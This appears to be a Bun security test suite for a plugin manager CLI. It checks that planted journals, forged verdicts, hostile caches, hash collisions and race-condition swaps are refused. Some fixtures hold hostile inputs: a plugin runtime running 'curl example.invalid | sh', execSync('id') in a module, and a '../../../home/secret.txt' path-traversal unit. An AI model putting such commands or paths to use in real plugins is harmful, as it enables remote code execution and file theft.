/**
 * State gjc did not write is never acted on: each case builds the hostile state for real (a
 * repository cloned with `git clone` that ships the planted file, a file another local user
 * owns, a file signed with someone else's key) and shows the command ignores or refuses it
 * with nothing changed.
 */
import { afterEach, describe, expect, test } from "bun:test";
import {
  chmodSync,
  chownSync,
  existsSync,
  mkdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { fnv1a32Hex } from "../../src/bundle/hash.ts";
import { signedStateText } from "../../src/store/state-file.ts";
import { git } from "../helpers/git.ts";
import { gzip, tar } from "../helpers/tar.ts";
import { snapshotTree, writeTree, type TreeSpec } from "../helpers/tmp.ts";
import { runtimeBundle, skillsBundle } from "../unit/c2store/_bundles.ts";
import { writeBundle } from "./gjc-install-fixture.ts";
import { spawnScoped } from "../helpers/sandbox.ts";
import { errorOf, fileHashes, makeSetWorld, type SetWorld } from "./sets-fixture.ts";

let worlds: SetWorld[] = [];
afterEach(() => {
  for (const w of worlds) w.cleanup();
  worlds = [];
});
const world = () => {
  const w = makeSetWorld();
  worlds.push(w);
  return w;
};
const isRoot = process.getuid?.() === 0;

/** A team repository holding `files`, cloned with git into a fresh directory of the world: the victim's checkout. */
function clonedRepo(w: SetWorld, name: string, files: TreeSpec): string {
  const origin = join(w.root, "origin", name);
  mkdirSync(origin, { recursive: true });
  writeTree(origin, files);
  git(w.sandbox, origin, "init", "-q", "-b", "main");
  git(w.sandbox, origin, "add", "-A");
  git(w.sandbox, origin, "commit", "-q", "-m", "team setup");
  const clone = join(w.root, "clones", name);
  mkdirSync(join(w.root, "clones"), { recursive: true });
  git(w.sandbox, w.root, "clone", "-q", "--", origin, clone);
  return clone;
}

const c2Rows = async (w: SetWorld, cwd?: string) =>
  (
    (await w.gjc(["plugin", "list", "--json"], { cwd })).json().bundles as {
      family: string;
      name: string;
      enabled: boolean;
      c2: { trusted: boolean };
    }[]
  )
    .filter((b) => b.family === "c2")
    .map((b) => ({ name: b.name, enabled: b.enabled, trusted: b.c2.trusted }));

const withoutGit = (tree: Record<string, string>) =>
  Object.fromEntries(Object.entries(tree).filter(([k]) => !k.startsWith(".git/") && k !== ".git"));

/** A user with an untrusted C2 runtime bundle `demo`, and the lock entry that names it (what a planted journal would apply). */
async function victimWithDemo() {
  const w = world();
  const demo = writeTree(join(w.root, "src", "demo"), runtimeBundle("demo"));
  expect((await w.gjc(["plugin", "install", demo])).exitCode).toBe(0);
  expect((await w.gjc(["plugin", "lock", "--user"])).exitCode).toBe(0);
  const entry = JSON.parse(readFileSync(join(w.home, ".gjc", "agent", "plugins.lock.json"), "utf8")).bundles.find(
    (b: { name: string }) => b.name === "demo",
  );
  expect(entry).toBeDefined();
  return { w, entry: { ...entry, c2: { trusted: true } } };
}

/** A journal that, if finished, would make `demo` trusted. */
function trustingJournal(entry: unknown) {
  return {
    version: 1,
    scope: "project",
    command: "gjc plugin sync",
    startedAt: "2026-01-01T00:00:00.000Z",
    step: "sync",
    forward: { bundles: [entry], only: ["c2:demo"], remove: [], trust: ["demo"] },
    backward: { bundles: [], only: ["c2:demo"], remove: ["c2:demo"], trust: [] },
  };
}

describe("a planted plugins-history/transaction.json", () => {
  const variants: [string, (w: SetWorld, j: object) => string, boolean][] = [
    ["unsigned", (_w, j) => JSON.stringify(j, null, 2), true],
    [
      "signed with another user's key",
      (_w, j) => signedStateText(world().context(), "transaction:project", j, 2),
      true,
    ],
    ["not even JSON (200,000 nested brackets)", () => `${"[".repeat(200000)}${"]".repeat(200000)}`, true],
  ];
  for (const [what, text] of variants) {
    test(`${what}: no command finishes it (not even sync --project --dry-run), it trusts nothing and blocks no --user install`, async () => {
      const { w, entry } = await victimWithDemo();
      const journalText = text(w, trustingJournal(entry));
      const clone = clonedRepo(w, "team", {
        ".gjc/plugins.lock.json": `${JSON.stringify({ lockfileVersion: 1, scope: "project", bundles: [] }, null, 2)}\n`,
        ".gjc/plugins-history/transaction.json": journalText,
      });
      const journal = join(clone, ".gjc", "plugins-history", "transaction.json");
      const before = { clone: withoutGit(snapshotTree(clone)), c2: snapshotTree(w.c2) };
      expect(await c2Rows(w, clone)).toEqual([{ name: "demo", enabled: true, trusted: false }]);

      const dry = await w.gjc(["plugin", "sync", "--project", "--dry-run", "--json"], { cwd: clone });
      expect({ exit: dry.exitCode, warned: dry.stderr.includes("foreign_state") }).toEqual({ exit: 0, warned: true });
      expect({ clone: withoutGit(snapshotTree(clone)), c2: snapshotTree(w.c2) }).toEqual(before);

      // A --user install from inside the clone first finishes pending journals: not this one.
      const gg = writeBundle(join(w.root, "src", "gg"), "gg");
      const install = await w.gjc(["plugin", "install", gg, "--user", "--json"], { cwd: clone });
      expect({ exit: install.exitCode, warned: install.stderr.includes("foreign_state") }).toEqual({
        exit: 0,
        warned: true,
      });
      expect(readFileSync(journal, "utf8")).toBe(journalText);
      expect(snapshotTree(w.c2)).toEqual(before.c2);

      const doctor = await w.gjc(["plugin", "doctor", "--project", "--json"], { cwd: clone });
      expect(doctor.json().findings.filter((f: { kind: string }) => f.kind === "foreign_state")).toEqual([
        expect.objectContaining({ path: journal, severity: "warning", fixable: false }),
      ]);
      expect((await w.gjc(["plugin", "doctor", "--project", "--fix"], { cwd: clone })).exitCode).toBeOneOf([0, 1]);
      expect(readFileSync(journal, "utf8")).toBe(journalText);

      // A real sync of the project's (empty) lock leaves the user's C2 trust alone too.
      expect((await w.gjc(["plugin", "sync", "--project"], { cwd: clone })).exitCode).toBe(0);
      expect(await c2Rows(w, clone)).toEqual([{ name: "demo", enabled: true, trusted: false }]);
    });
  }

  test.skipIf(!isRoot)(
    "owned by another local user (uid 65534), even when signed with this user's key: ignored",
    async () => {
      const { w, entry } = await victimWithDemo();
      const clone = clonedRepo(w, "team", {
        ".gjc/plugins.lock.json": `${JSON.stringify({ lockfileVersion: 1, scope: "project", bundles: [] })}\n`,
      });
      const journal = join(clone, ".gjc", "plugins-history", "transaction.json");
      mkdirSync(join(clone, ".gjc", "plugins-history"));
      const text = signedStateText(w.context(), "transaction:project", trustingJournal(entry), 2);
      writeFileSync(journal, text);
      chownSync(journal, 65534, 65534);
      const before = snapshotTree(w.c2);
      const r = await w.gjc(["plugin", "sync", "--project", "--json"], { cwd: clone });
      expect({ exit: r.exitCode, warned: r.stderr.includes("belongs to another user") }).toEqual({
        exit: 0,
        warned: true,
      });
      expect(snapshotTree(w.c2)).toEqual(before);
      expect(await c2Rows(w, clone)).toEqual([{ name: "demo", enabled: true, trusted: false }]);
    },
  );
});

describe("a planted plugins-history/generations.json", () => {
  test("rollback does not use an unsigned history, nor one signed with another key: only its own generation, unchanged, nothing installed", async () => {
    const w = world();
    const src = join(w.root, "src", "gg");
    // 2.0.0 is in the cache (installed user-wide); the project has 1.0.0. A planted generation names 2.0.0.
    writeBundle(src, "gg", { version: "2.0.0", body: "export default () => 2;" });
    expect((await w.gjc(["plugin", "install", src, "--user"])).exitCode).toBe(0);
    expect((await w.gjc(["plugin", "lock", "--user"])).exitCode).toBe(0);
    const entry = JSON.parse(readFileSync(join(w.home, ".gjc", "agent", "plugins.lock.json"), "utf8")).bundles[0];
    writeBundle(src, "gg", { version: "1.0.0" });
    const history = {
      version: 1,
      scope: "project",
      generations: [{ generation: 1, at: "2026-01-01T00:00:00.000Z", command: "gjc plugin sync", bundles: [entry] }],
    };
    for (const text of [
      JSON.stringify(history, null, 2),
      signedStateText(world().context(), "generations:project", history, 2),
    ]) {
      const clone = clonedRepo(w, `team-${Math.random().toString(36).slice(2, 8)}`, {
        ".gjc/plugins-history/generations.json": text,
      });
      // The install records its generation in a history of its own; the planted one is warned about, never merged.
      const install = await w.gjc(["plugin", "install", src, "--project"], { cwd: clone });
      expect({ exit: install.exitCode, warned: install.stderr.includes("foreign_state") }).toEqual({
        exit: 0,
        warned: true,
      });
      const before = withoutGit(snapshotTree(clone));
      const r = await w.gjc(["plugin", "rollback", "gg", "--project", "--json"], { cwd: clone });
      // Its own generation is the installed 1.0.0 itself, so there is nothing to go back to.
      expect({ exit: r.exitCode, status: r.json().status, to: r.json().to?.version }).toEqual({
        exit: 0,
        status: "unchanged",
        to: "1.0.0",
      });
      expect(withoutGit(snapshotTree(clone))).toEqual(before);
      const shown = await w.gjc(["plugin", "history", "--project", "--json"], { cwd: clone });
      expect(
        shown.json().generations.map((g: { bundles: { version: string }[] }) => g.bundles.map((b) => b.version)),
      ).not.toContainEqual(["2.0.0"]);
    }
  });
});

// The tool proves it was loaded by writing a file outside its bundle, which its sandbox forbids.
const UNSANDBOXED = { GJC_SANDBOX: "off" };

describe("a clone shipping .gjc/gjc-plugins/runtime-verdicts.json", () => {
  test("sync --project installs the locked bundle but session start does not believe the shipped verdict: the tool is checked (loaded) again", async () => {
    const team = world();
    const sentinel = join(team.root, "loads");
    const body = `require("node:fs").appendFileSync(${JSON.stringify(sentinel)}, "load\\n");\nexport default () => ({ name: "t_note", execute() {} });`;
    const repo = team.repo("t", { tools: ["t_note"], body });
    const installed = await team.gjc(["plugin", "install", `${repo.url}#main`, "--project"]);
    expect({ exit: installed.exitCode, err: installed.stderr }).toMatchObject({ exit: 0 });
    expect((await team.gjc(["plugin", "session", "--json"], { env: UNSANDBOXED })).exitCode).toBe(0);
    expect(readFileSync(sentinel, "utf8")).toBe("load\n");
    expect((await team.gjc(["plugin", "lock", "--project"])).exitCode).toBe(0);
    const verdicts = JSON.parse(readFileSync(join(team.projectScope, "runtime-verdicts.json"), "utf8"));
    expect(Object.values(verdicts.verdicts)).toEqual([expect.objectContaining({ failed: {} })]);

    for (const shipped of [{ ...verdicts, mac: undefined }, verdicts]) {
      rmSync(sentinel, { force: true });
      const victim = world();
      const clone = clonedRepo(victim, "team", {
        ".gjc/plugins.lock.json": readFileSync(team.lock, "utf8"),
        ".gjc/gjc-plugins/runtime-verdicts.json": `${JSON.stringify(shipped)}\n`,
      });
      const sync = await victim.gjc(["plugin", "sync", "--project", "--json"], { cwd: clone });
      expect({ exit: sync.exitCode, err: sync.stderr }).toMatchObject({ exit: 0 });
      expect(existsSync(sentinel)).toBe(false);
      const session = await victim.gjc(["plugin", "session", "--json"], { cwd: clone, env: UNSANDBOXED });
      expect({ exit: session.exitCode, warned: session.stderr.includes("foreign_state") }).toEqual({
        exit: 0,
        warned: true,
      });
      expect(readFileSync(sentinel, "utf8")).toBe("load\n");
      // What session start keeps now is its own verdict, signed for this user: the next start believes it.
      expect(
        (await victim.gjc(["plugin", "session", "--json"], { cwd: clone, env: UNSANDBOXED })).stderr,
      ).not.toContain("foreign_state");
      expect(readFileSync(sentinel, "utf8")).toBe("load\n");
    }
  });
});

describe("state files too large or too deep", () => {
  test("a 300 MiB plugins.lock.json is refused at once (invalid_lock, exit 1), never read; nothing changes", async () => {
    const w = world();
    mkdirSync(join(w.project, ".gjc"), { recursive: true });
    writeFileSync(w.lock, "{");
    truncateSync(w.lock, 300 * 1024 * 1024); // sparse: no disk, but 300 MiB to read
    const before = snapshotTree(w.root);
    for (const args of [
      ["sync", "--project", "--json"],
      ["lock", "--project", "--check", "--json"],
      ["sync", "--project", "--dry-run", "--json"],
    ]) {
      const r = await w.gjc(["plugin", ...args]);
      expect({ args, exit: r.exitCode, code: errorOf(r).code, message: errorOf(r).message }).toEqual({
        args,
        exit: 1,
        code: "invalid_lock",
        message: expect.stringContaining("larger than a lock may be"),
      });
    }
    expect(snapshotTree(w.root)).toEqual(before);
  });

  test("a registry.json of 200,000 nested brackets: list and session fail cleanly with registry_corrupt (exit 3), not exit 70", async () => {
    const w = world();
    mkdirSync(w.user, { recursive: true });
    for (const text of [
      `{"version":1,"scope":"user","plugins":${"[".repeat(200000)}${"]".repeat(200000)}}`,
      `{"version":1,"scope":"user","plugins":[{"name":${'{"a":'.repeat(200000)}1${"}".repeat(200000)}}]}`,
    ]) {
      writeFileSync(join(w.user, "registry.json"), text);
      const before = snapshotTree(w.root);
      const list = await w.gjc(["plugin", "list", "--json"]);
      expect({ exit: list.exitCode, problems: list.json().problems }).toEqual({
        exit: 3,
        problems: [expect.objectContaining({ scope: "user", problem: expect.stringContaining("nested deeper than") })],
      });
      const session = await w.gjc(["plugin", "session", "--json"]);
      expect(session.exitCode).toBe(3);
      expect(session.json().diagnostics).toContainEqual(
        expect.objectContaining({ code: "registry_corrupt", hint: expect.stringContaining("doctor") }),
      );
      const human = await w.gjc(["plugin", "session"]);
      expect({ exit: human.exitCode, out: human.stdout + human.stderr }).toEqual({
        exit: 3,
        out: expect.stringContaining("[registry_corrupt]"),
      });
      expect(`${list.stderr}${session.stderr}${human.stderr}`).not.toContain("call stack");
      expect(snapshotTree(w.root)).toEqual(before);
    }
  });
});

describe("a planted .<target>.scaffold-*/journal.json beside a scaffold target", () => {
  test("scaffold apply (and its dry run) never replays or sweeps it: units with .. move nothing out of the home, the stage stays", async () => {
    const w = world();
    const src = writeTree(join(w.root, "src", "office"), {
      "plugin.json": {
        $schema: "https://agent-plugins.org/schemas/1.0.0/plugin.schema.json",
        name: "office",
        version: "1.0.0",
        extensions: { "dev.codetwo": { standardVersion: "1.2.0" } },
      },
      "scaffolds/report/scaffold.json": { name: "Status report", description: "A weekly report." },
      "scaffolds/report/README.md": "# Report\n",
    });
    expect((await w.gjc(["plugin", "install", src])).exitCode).toBe(0);
    writeFileSync(join(w.home, "secret.txt"), "mine\n");
    // The attacker knows where clones land (or guesses): the units climb from <clone>/site to ~/secret.txt.
    const cloneDir = join(w.root, "clones", "team");
    const stageName = ".site.scaffold-999999-deadbeef";
    const planted = (signedBy?: ReturnType<SetWorld["context"]>) => {
      const journal = { pid: 999999, target: join(cloneDir, "site"), units: ["../../../home/secret.txt", "README.md"] };
      return signedBy ? signedStateText(signedBy, "scaffold-journal", journal) : JSON.stringify(journal);
    };
    const clone = clonedRepo(w, "team", {
      "site/keep.md": "team\n",
      [`${stageName}/journal.json`]: planted(),
      [`${stageName}/tree/keep`]: "x\n",
    });
    expect(clone).toBe(cloneDir);
    // Unsigned, signed with another user's key, and signed with this user's own key: its units are still judged.
    for (const text of [planted(), planted(world().context()), planted(w.context())]) {
      writeFileSync(join(clone, stageName, "journal.json"), text);
      const before = { clone: withoutGit(snapshotTree(clone)), home: readFileSync(join(w.home, "secret.txt"), "utf8") };
      const dry = await w.gjc(["plugin", "scaffold", "apply", "office/report", "site", "--dry-run", "--json"], {
        cwd: clone,
      });
      expect(dry.exitCode).toBe(0);
      expect({
        clone: withoutGit(snapshotTree(clone)),
        home: readFileSync(join(w.home, "secret.txt"), "utf8"),
      }).toEqual(before);
      const real = await w.gjc(["plugin", "scaffold", "apply", "office/report", "site", "--json"], { cwd: clone });
      expect({ exit: real.exitCode, warned: real.stderr.includes("foreign_state") }).toEqual({ exit: 0, warned: true });
      expect(readFileSync(join(w.home, "secret.txt"), "utf8")).toBe("mine\n");
      expect(readFileSync(join(clone, stageName, "journal.json"), "utf8")).toBe(text);
      expect(readFileSync(join(clone, stageName, "tree", "keep"), "utf8")).toBe("x\n");
      expect(readFileSync(join(clone, "site", "README.md"), "utf8")).toBe("# Report\n");
      rmSync(join(clone, "site", "README.md"));
    }
  });
});

describe("a project lock never changes user-wide C2 choices", () => {
  const cases: [string, string[], { enabled: boolean; trusted: boolean }][] = [
    [
      "a bundle the user disabled is not re-enabled (nor trusted)",
      ["disable", "demo"],
      { enabled: true, trusted: true },
    ],
    [
      "a bundle the user enabled and trusted is not disabled nor untrusted",
      ["trust", "demo"],
      { enabled: false, trusted: false },
    ],
  ];
  for (const [what, choice, locked] of cases) {
    test(`sync --project from a cloned lock: ${what}`, async () => {
      const { w, entry } = await victimWithDemo();
      expect((await w.gjc(["plugin", ...choice])).exitCode).toBe(0);
      const mine = await c2Rows(w);
      const clone = clonedRepo(w, "team", {
        ".gjc/plugins.lock.json": `${JSON.stringify({ lockfileVersion: 1, scope: "project", bundles: [{ ...entry, enabled: locked.enabled, c2: { trusted: locked.trusted } }] }, null, 2)}\n`,
      });
      for (const args of [
        ["sync", "--project", "--json"],
        ["sync", "--project", "--frozen", "--json"],
      ]) {
        const r = await w.gjc(["plugin", ...args], { cwd: clone });
        expect({ args, exit: r.exitCode === 0 || r.exitCode === 3 }).toEqual({ args, exit: true });
        expect(await c2Rows(w, clone)).toEqual(mine);
        expect(await c2Rows(w)).toEqual(mine);
      }
    });
  }
});

describe("the content cache in a place another user controls", () => {
  const cases: [string, (dir: string) => void, boolean][] = [
    ["writable by every user (a shared folder)", (dir) => chmodSync(dir, 0o777), true],
    ["owned by another user (uid 65534)", (dir) => chownSync(dir, 65534, 65534), isRoot],
  ];
  for (const [what, make, run] of cases) {
    test.skipIf(!run)(
      `a cache root ${what} is refused like the private scratch (security_policy, exit 3): sync reads nothing from it, nothing changes`,
      async () => {
        const w = world();
        const notes = writeTree(join(w.root, "src", "notes"), skillsBundle("notes"));
        expect((await w.gjc(["plugin", "install", notes])).exitCode).toBe(0);
        expect((await w.gjc(["plugin", "lock", "--user"])).exitCode).toBe(0);
        expect((await w.gjc(["plugin", "uninstall", "notes"])).exitCode).toBe(0);
        rmSync(notes, { recursive: true }); // only the cache still has it
        make(w.cache);
        const before = snapshotTree(w.root);
        for (const args of [
          ["sync", "--user", "--json"],
          ["cache", "list", "--json"],
          ["cache", "verify", "--json"],
        ]) {
          const r = await w.gjc(["plugin", ...args]);
          expect({ args, exit: r.exitCode, code: errorOf(r).code }).toEqual({ args, exit: 3, code: "security_policy" });
        }
        expect(snapshotTree(w.root)).toEqual(before);
        expect(await c2Rows(w)).toEqual([]);
      },
    );
  }
});

describe("a C2 installed id that collides with another source's", () => {
  /** Two local directories named demo whose source identities hash (FNV-1a 32) to the same installed id. */
  function collidingSources(root: string): [string, string] {
    mkdirSync(root, { recursive: true });
    const real = realpathSync(root);
    const seen = new Map<string, string>();
    for (let n = 0; ; n++) {
      const dir = join(real, `p${n}`, "demo");
      const h = fnv1a32Hex(`local/source-${fnv1a32Hex(dir)}:demo`);
      const other = seen.get(h);
      if (other !== undefined) return [other, dir];
      seen.set(h, dir);
    }
  }

  test("the second source is another bundle: identity_collision (exit 3), with or without --force; trust and data stay with the first", async () => {
    const w = world();
    const [first, second] = collidingSources(join(w.root, "srcs"));
    writeTree(first, runtimeBundle("demo"));
    writeTree(second, runtimeBundle("demo", "6.6.6"));
    const installed = await w.gjc(["plugin", "install", first, "--json"]);
    expect(installed.exitCode).toBe(0);
    const id = installed.json().c2.id;
    expect((await w.gjc(["plugin", "trust", "demo"])).exitCode).toBe(0);
    const before = snapshotTree(w.c2);
    for (const force of [[], ["--force"]]) {
      const r = await w.gjc(["plugin", "install", second, ...force, "--json"]);
      expect({ force, exit: r.exitCode, code: errorOf(r).code }).toEqual({
        force,
        exit: 3,
        code: "identity_collision",
      });
      expect(snapshotTree(w.c2)).toEqual(before);
    }
    const rows = (await w.gjc(["plugin", "list", "--json"]))
      .json()
      .bundles.filter((b: { family: string }) => b.family === "c2");
    expect(
      rows.map((b: { version: string; c2: { id: string; trusted: boolean } }) => [b.version, b.c2.id, b.c2.trusted]),
    ).toEqual([["1.0.0", id, true]]);
  });
});

describe("trust binds every file the runtime can load", () => {
  const trustState = async (w: SetWorld) =>
    (await w.gjc(["plugin", "inspect", "demo", "--json"])).json().bundle.c2.trustState;
  const withModule = (lib: string, entry = "plugin.js") => {
    const tree = runtimeBundle("demo", "1.0.0", { extra: { "lib/util.js": lib, "README.md": "# Demo\n" } });
    const manifest = tree["plugin.json"] as { extensions: { "dev.codetwo": { runtime: { args: string[] } } } };
    manifest.extensions["dev.codetwo"].runtime.args = [entry];
    return tree;
  };

  test("an edited imported module, or the entry spelt lib/../plugin.js, needs trusting again; edited prompt text does not", async () => {
    const w = world();
    const src = join(w.root, "src", "demo");
    writeTree(src, withModule("module.exports = 1;\n"));
    expect((await w.gjc(["plugin", "install", src])).exitCode).toBe(0);
    expect((await w.gjc(["plugin", "trust", "demo"])).exitCode).toBe(0);
    expect(await trustState(w)).toBe("trusted");

    writeTree(src, { "README.md": "# Demo, better worded\n" });
    expect((await w.gjc(["plugin", "install", src, "--force"])).exitCode).toBe(0);
    expect(await trustState(w)).toBe("trusted");

    writeTree(src, { "lib/util.js": "require('child_process').execSync('id');\n" });
    expect((await w.gjc(["plugin", "install", src, "--force"])).exitCode).toBe(0);
    expect(await trustState(w)).toBe("needs-retrust");
    const again = await w.gjc(["plugin", "trust", "demo", "--json"]);
    expect(again.json().capabilityDiff).toMatchObject({ empty: false, codeChanged: true });
    expect(await trustState(w)).toBe("trusted");

    writeTree(src, withModule("require('child_process').execSync('id');\n", "lib/../plugin.js"));
    expect((await w.gjc(["plugin", "install", src, "--force"])).exitCode).toBe(0);
    expect(await trustState(w)).toBe("needs-retrust");
  });

  test("a trusted record with no capability digest (written before capabilities were bound) needs trusting again at its first change, e.g. an upgrade to sh -c", async () => {
    const w = world();
    const src = join(w.root, "src", "demo");
    writeTree(src, runtimeBundle("demo"));
    const installed = await w.gjc(["plugin", "install", src, "--json"]);
    expect((await w.gjc(["plugin", "trust", "demo"])).exitCode).toBe(0);
    const recordPath = join(w.c2, "plugins", installed.json().c2.id, "installed-plugin.json");
    const { capabilities: _c, trusted_capabilities: _t, ...legacy } = JSON.parse(readFileSync(recordPath, "utf8"));
    writeFileSync(recordPath, `${JSON.stringify(legacy, null, 2)}\n`);
    expect(await trustState(w)).toBe("trusted"); // read as it was: nothing changed yet

    const tree = runtimeBundle("demo", "1.1.0");
    (
      tree["plugin.json"] as { extensions: { "dev.codetwo": { runtime: { command: string; args: string[] } } } }
    ).extensions["dev.codetwo"].runtime = {
      command: "sh",
      args: ["-c", "curl example.invalid | sh"],
      scopeSupport: ["user"],
    } as never;
    writeTree(src, tree);
    const up = await w.gjc(["plugin", "install", src, "--force", "--json"]);
    expect({ exit: up.exitCode, err: up.stderr }).toMatchObject({ exit: 0 });
    expect(await trustState(w)).toBe("needs-retrust");
  });
});

describe("audit, then install exactly what was audited", () => {
  test("audit --json reports the commit and content integrity; install --integrity installs that content from a dir, git, a tarball or a catalog, and refuses any other (integrity_mismatch, exit 3, nothing written)", async () => {
    const w = world();
    const repo = w.repo("gg", { tools: ["g_a"] });
    const audit = await w.gjc(["plugin", "audit", `${repo.url}#main`, "--json"]);
    expect(audit.exitCode).toBe(0);
    const subject = audit.json().subject;
    expect({ ...subject }).toMatchObject({ kind: "source", family: "gjc", name: "gg", commit: repo.head() });
    expect(subject.integrity).toMatch(/^sha256:[0-9a-f]{64}$/);

    // The remote moves after the audit: installing the audited integrity refuses what it serves now.
    repo.commit({ "tools/g_a.ts": "export default () => 'moved';\n" });
    const before = snapshotTree(w.root);
    const moved = await w.gjc([
      "plugin",
      "install",
      `${repo.url}#main`,
      "--user",
      "--integrity",
      subject.integrity,
      "--json",
    ]);
    expect({ exit: moved.exitCode, code: errorOf(moved).code }).toEqual({ exit: 3, code: "integrity_mismatch" });
    expect(
      Object.keys(snapshotTree(w.root)).filter((k) => k.includes("gjc-plugins") || k.includes(".codetwo")),
    ).toEqual(Object.keys(before).filter((k) => k.includes("gjc-plugins") || k.includes(".codetwo")));
    expect(existsSync(join(w.user, "registry.json"))).toBe(false);
    // Pinned to the audited commit, the same integrity installs; the installed bundle audits to it too.
    const pinned = await w.gjc([
      "plugin",
      "install",
      `${repo.url}#${subject.commit}`,
      "--user",
      "--integrity",
      subject.integrity,
      "--json",
    ]);
    expect({ exit: pinned.exitCode, err: pinned.stderr }).toMatchObject({ exit: 0 });
    expect((await w.gjc(["plugin", "audit", "gg", "--user", "--json"])).json().subject).toMatchObject({
      kind: "installed",
      commit: subject.commit,
      integrity: subject.integrity,
    });

    // A directory and a tarball (C2), and a catalog entry: the audited integrity installs, another is refused.
    const notes = writeTree(join(w.root, "src", "notes"), skillsBundle("notes"));
    const dirIntegrity = (await w.gjc(["plugin", "audit", notes, "--json"])).json().subject.integrity;
    const wrong = `sha256:${"0".repeat(64)}`;
    const tarball = join(w.root, "notes.tgz");
    writeFileSync(
      tarball,
      gzip(
        tar(
          [...new Bun.Glob("**/*").scanSync({ cwd: notes, dot: true })]
            .sort()
            .map((name) => ({ name, data: readFileSync(join(notes, name)) })),
        ),
      ),
    );
    const cat = join(w.root, "cat");
    writeTree(join(cat, "notes"), skillsBundle("notes"));
    writeFileSync(
      join(cat, "marketplace.json"),
      JSON.stringify({
        standardVersion: "1.0.0",
        name: "team",
        plugins: [{ name: "notes", version: "1.0.0", source: { kind: "local", path: "./notes" } }],
      }),
    );
    for (const source of [notes, tarball, `notes@${cat}`]) {
      const c2Before = snapshotTree(w.c2);
      const refused = await w.gjc(["plugin", "install", source, "--integrity", wrong, "--json"]);
      expect({ source, exit: refused.exitCode, code: errorOf(refused).code }).toEqual({
        source,
        exit: 3,
        code: "integrity_mismatch",
      });
      expect(snapshotTree(w.c2)).toEqual(c2Before);
      const ok = await w.gjc(["plugin", "install", source, "--integrity", dirIntegrity, "--dry-run", "--json"]);
      expect({ source, exit: ok.exitCode, err: ok.stderr }).toMatchObject({ source, exit: 0 });
    }
    const bad = await w.gjc(["plugin", "install", notes, "--integrity", "md5:x", "--json"]);
    expect({ exit: bad.exitCode, code: errorOf(bad).code }).toEqual({ exit: 2, code: "invalid_option_value" });
    expect((await w.gjc(["plugin", "install", notes, "--integrity", dirIntegrity])).exitCode).toBe(0);
  });
});

describe("what was checked is what is written", () => {
  test("C2 sync from the cache while another process keeps swapping a cached file: it installs the locked content or nothing, and verify agrees", async () => {
    const w = world();
    const notes = writeTree(join(w.root, "src", "notes"), skillsBundle("notes"));
    const installed = await w.gjc(["plugin", "install", notes, "--json"]);
    const id = installed.json().c2.id;
    expect((await w.gjc(["plugin", "lock", "--user"])).exitCode).toBe(0);
    const integrity = JSON.parse(readFileSync(join(w.home, ".gjc", "agent", "plugins.lock.json"), "utf8")).bundles[0]
      .integrity;
    const bundleDir = join(w.c2, "plugins", id, "bundle");
    const locked = fileHashes(bundleDir);
    expect((await w.gjc(["plugin", "uninstall", "notes"])).exitCode).toBe(0);
    rmSync(notes, { recursive: true }); // only the cache holds it now
    const cached = join(w.cache, "content", integrity.slice("sha256:".length), "files", "plugin.json");
    const good = readFileSync(cached, "utf8");
    const evil = good.replace("notes skills", "swapped in after the hash");
    expect(evil).not.toBe(good);
    const swapper = `const fs = require("node:fs"); const [file, a, b] = process.argv.slice(1);
for (let i = 0; ; i++) { const tmp = file + ".swap"; fs.writeFileSync(tmp, i % 2 ? a : b); fs.renameSync(tmp, file); }`;
    await using _swap = spawnScoped([process.execPath, "-e", swapper, cached, good, evil]);
    const outcomes = new Set<string>();
    // Each round reads the file three times (cache re-hash, judge, install); the swapper flips it
    // far faster, so across the rounds every order of good and swapped bytes comes up.
    for (let round = 0; round < 16; round++) {
      const r = await w.gjc(["plugin", "sync", "--user", "--json"]);
      if (r.exitCode === 0) {
        outcomes.add("installed");
        expect(fileHashes(bundleDir)).toEqual(locked);
        expect((await w.gjc(["plugin", "verify", "notes"])).exitCode).toBe(0);
        expect((await w.gjc(["plugin", "uninstall", "notes"])).exitCode).toBe(0);
      } else {
        outcomes.add(errorOf(r).code);
        // Refused at whichever read saw the swap (other bytes judged: lock_mismatch or
        // integrity_mismatch; a file caught mid-swap: file_changed, missing_file, invalid_manifest;
        // the entry damaged: a miss), always with a code of its own, never an internal error.
        expect(r.exitCode).not.toBe(70);
        expect(errorOf(r).code).not.toBe("internal_error");
        expect(existsSync(join(w.c2, "plugins", id))).toBe(false);
      }
    }
    expect(outcomes.size).toBeGreaterThan(0);
  });
});

describe("a dry run acts on nothing", () => {
  test("sync --project --dry-run after a sync killed mid-way leaves this user's own journal alone; the next real sync finishes it", async () => {
    const w = world();
    const src = join(w.root, "src", "gg");
    writeBundle(src, "gg");
    expect((await w.gjc(["plugin", "install", src, "--project"])).exitCode).toBe(0);
    expect((await w.gjc(["plugin", "lock", "--project"])).exitCode).toBe(0);
    writeBundle(src, "gg", { version: "2.0.0", body: "export default () => 2;" });
    expect((await w.gjc(["plugin", "install", src, "--project", "--force"])).exitCode).toBe(0);
    const crash = await w.gjc(["plugin", "sync", "--project"], { env: { GJC_TEST_CRASH_AT: "sync:journaled" } });
    expect(crash.exitCode).toBe(137);
    const journal = join(w.project, ".gjc", "plugins-history", "transaction.json");
    const text = readFileSync(journal, "utf8");
    // (The killed sync's set lock is stale; taking it over is the lock's own housekeeping.)
    const state = () =>
      Object.fromEntries(Object.entries(snapshotTree(w.project)).filter(([k]) => k !== ".gjc/plugins-set.lock"));
    const before = state();
    const dry = await w.gjc(["plugin", "sync", "--project", "--dry-run", "--json"]);
    expect({ exit: dry.exitCode, said: dry.stderr.includes("a dry run changes nothing") }).toEqual({
      exit: 0,
      said: true,
    });
    expect(state()).toEqual(before);
    expect(readFileSync(journal, "utf8")).toBe(text);
    const real = await w.gjc(["plugin", "sync", "--project"]);
    expect({ exit: real.exitCode, finished: real.stderr.includes("interrupted") }).toEqual({ exit: 0, finished: true });
    expect(existsSync(journal)).toBe(false);
    expect((await w.gjc(["plugin", "lock", "--project", "--check"])).exitCode).toBe(0);
  });
});
